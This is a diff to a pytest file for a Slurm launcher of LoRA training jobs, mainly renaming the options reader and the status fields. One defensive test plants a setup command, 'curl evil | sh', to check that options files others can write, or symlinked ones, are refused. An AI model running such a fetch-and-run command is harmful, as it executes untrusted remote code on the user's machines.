@@ -29,13 +29,13 @@ from test_distributed import assert_same_adapters
 
 import mlora_lab as ml
 from mlora_lab.lab import cli
-from mlora_lab.lab.launch import prepare_run, read_slurm_options
+from mlora_lab.lab.launch import prepare_run, read_options
 from mlora_lab.lab.slurm import cluster as slurm_module
 from mlora_lab.lab.slurm import sbatch_args
 from mlora_lab.lab.slurm.cluster import SlurmJob, SlurmOptions, render_script
 from mlora_lab.lora import read_adapter
 from mlora_lab.rundir import RunDir, atomic_write_json, checkpoint, control, read_status, update_status
-from mlora_lab.rundir.status import JOB_MODULE
+from mlora_lab.rundir.status import JOB_MODULE, JobRef
 from mlora_lab.text import brief
 
 # every test here shares one local Slurm cluster: one pytest-xdist worker runs them all (--dist loadgroup)
@@ -137,15 +137,15 @@ def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path
 def test_a_slurm_json_someone_else_can_write_is_not_trusted(tmp_path):
     run = RunDir(tmp_path / "r").create()
     atomic_write_json(run.slurm_options, SlurmOptions(setup=["echo mine"]).to_dict())
-    assert read_slurm_options(run).setup == ["echo mine"]
+    assert read_options(run, "slurm").setup == ["echo mine"]
     run.slurm_options.chmod(0o666)
     with pytest.raises(ml.SpecError, match="not a file of yours that only you can write"):
-        read_slurm_options(run)
+        read_options(run, "slurm")
     run.slurm_options.unlink()
     (tmp_path / "planted.json").write_text(json.dumps({"setup": ["curl evil | sh"]}))
     run.slurm_options.symlink_to(tmp_path / "planted.json")
     with pytest.raises(ml.SpecError, match="not a file of yours"):
-        read_slurm_options(run)
+        read_options(run, "slurm")
 
 
 def test_several_nodes_on_the_local_launcher_are_refused_naming_the_launchers(llama_path, tmp_path):
@@ -676,7 +676,8 @@ def slurm_run(llama_path, tmp_path, monkeypatch):
         out = tmp_path / f"r{next(made)}"
         spec = ml.JobSpec(base_model=llama_path, tenants=[], stay_up=True, output_dir=str(out))
         run_dir = prepare_run(spec)
-        update_status(run_dir.root, **{"state": "queued", "launcher": "slurm", "slurm_job_id": 42, **status})
+        ref = JobRef("slurm", "42")
+        update_status(run_dir.root, **{"state": "queued", "launcher": "slurm", "launcher_job": ref, **status})
         monkeypatch.setattr(slurm_module, "query", lambda job_id: answer)
         return ml.attach(run_dir.root)
 
@@ -687,7 +688,7 @@ def test_a_pending_job_is_queued_with_slurms_reason(slurm_run):
     run = slurm_run(SlurmJob(42, "PENDING", "Resources"))
     assert run.status == "queued"
     assert run.reason == "Slurm job 42 is waiting in the queue (PENDING, reason Resources)"
-    assert read_status(run.path).slurm_state is None
+    assert read_status(run.path).launcher_state is None
 
 
 @pytest.mark.parametrize(
@@ -712,7 +713,7 @@ def test_a_job_slurm_ended_is_failed_with_the_reason(slurm_run, state, reason, w
     assert read_status(run.path).state == "stopped", "reading the state writes nothing"
     assert run.reconcile() == "failed"
     status = read_status(run.path)
-    assert status.state == "failed" and status.slurm_state == state and status.ended
+    assert status.state == "failed" and status.launcher_state == state and status.ended
 
 
 def test_the_jobs_own_error_is_kept_next_to_slurms(slurm_run):
@@ -765,11 +766,11 @@ def test_a_run_whose_job_wrote_its_end_runs_until_slurm_ends_the_job(slurm_run, 
         f"the job wrote '{written}', but Slurm job 42 is {active.lower()} ({active}, nodes node[1-2]): "
         "its processes are still ending"
     )
-    assert read_status(run.path).slurm_state is None, "not recorded: Slurm is asked again"
+    assert read_status(run.path).launcher_state is None, "not recorded: Slurm is asked again"
     assert run.wait(timeout=0.3, poll=0.1) == "running"  # a timeout: not final, and the reason says why
     monkeypatch.setattr(slurm_module, "query", lambda job_id: SlurmJob(42, "COMPLETED", "None", "0:0"))
     assert run.wait(timeout=5, poll=0.1) == written  # (Slurm is asked at most once a second)
-    assert read_status(run.path).slurm_state == "COMPLETED"
+    assert read_status(run.path).launcher_state == "COMPLETED"
 
 
 def test_the_cli_says_that_slurm_still_ends_the_job(slurm_run, capsys):
@@ -793,7 +794,7 @@ def test_an_end_slurm_cannot_confirm_is_reported_not_returned(slurm_run, monkeyp
     for call in (lambda: run.wait(timeout=0.3, poll=0.1), lambda: run.stop(timeout=0.3)):
         with pytest.raises(slurm_module.SlurmError, match=r"says the run is stopped, but Slurm cannot say"):
             call()
-    assert read_status(run.path).slurm_state is None
+    assert read_status(run.path).launcher_state is None
 
 
 def test_a_kill_slurm_does_not_carry_out_is_reported_with_slurms_state(slurm_run, monkeypatch):
@@ -806,7 +807,9 @@ def test_a_kill_slurm_does_not_carry_out_is_reported_with_slurms_state(slurm_run
         run.liveness.kill(timeout=0.5)
     assert killed == [42]
     status = read_status(run.path)
-    assert status.state == "running" and status.slurm_state is None, "nothing recorded: Slurm is asked again"
+    assert status.state == "running" and status.launcher_state is None, (
+        "nothing recorded: Slurm is asked again"
+    )
 
 
 def test_a_kill_of_a_job_that_ended_meanwhile_is_its_end(slurm_run, monkeypatch):
@@ -819,7 +822,7 @@ def test_a_kill_of_a_job_that_ended_meanwhile_is_its_end(slurm_run, monkeypatch)
 
     monkeypatch.setattr(slurm_module, "kill", refused)
     run.kill()
-    assert read_status(run.path).slurm_state == "COMPLETED" and run.status == "stopped"
+    assert read_status(run.path).launcher_state == "COMPLETED" and run.status == "stopped"
 
 
 def test_slurm_is_asked_no_more_once_it_gave_its_verdict(slurm_run, monkeypatch):
@@ -984,7 +987,7 @@ def slurm_verdict(run: ml.Run) -> str:
 
     def seen() -> str | None:
         run.reconcile()
-        return read_status(run.path).slurm_state
+        return read_status(run.path).launcher_state
 
     return wait_for("Slurm's verdict", seen, run, poll=0.5)
 
@@ -1251,10 +1254,10 @@ def test_a_stopped_slurm_job_is_over_when_stop_and_wait_return(
     else:
         run.kill()
         assert_nothing_of_the_job_is_left(on_cluster, run, job_id, stepd_grace=10)
-        assert run.status == "stopped" and run.error == f"killed (scancel {job_id})"
+        assert run.status == "stopped" and run.error == f"killed (Slurm job {job_id})"
         # SIGKILL, not Slurm's SIGTERM (on which the job would save and write its own end)
         assert "done after" not in run.logs(0, tail=None) and read_status(run.path).error == run.error
-    ended = read_status(run.path).slurm_state
+    ended = read_status(run.path).launcher_state
     assert ended in ("CANCELLED", "FAILED") if how == "kill()" else ended == "COMPLETED"
     assert cli.main(["status", str(run.path)]) == 0
     assert capsys.readouterr().out.startswith(f"{run.path}: stopped")
